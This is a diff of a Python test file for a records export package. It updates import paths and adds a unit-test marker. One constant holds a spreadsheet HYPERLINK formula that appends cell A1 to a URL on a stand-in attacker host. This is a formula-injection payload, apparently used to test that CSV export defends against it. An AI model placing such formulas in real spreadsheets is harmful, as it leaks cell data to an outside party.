@@ -10,11 +10,13 @@ import json
 
 import pytest
 
-from conftest import FIXTURE_DATA, ROOT
-from export_records import exported_lists, record_document
-from export_tables import TABLES, table_csv
-from record_loader import load_record
+from conftest import ROOT
+from cica_record.export.records import exported_lists, record_document
+from cica_record.export.tables import TABLES, table_csv
+from cica_record.record.loader import load_record
 from test_data_errors import broken_copy
+
+pytestmark = pytest.mark.unit
 
 NAME = "{en: Kazakhstan, ru: Казахстан, kk: Қазақстан}"
 HYPERLINK = '=HYPERLINK("https://attacker.example/?"&A1,"Kazakhstan")'
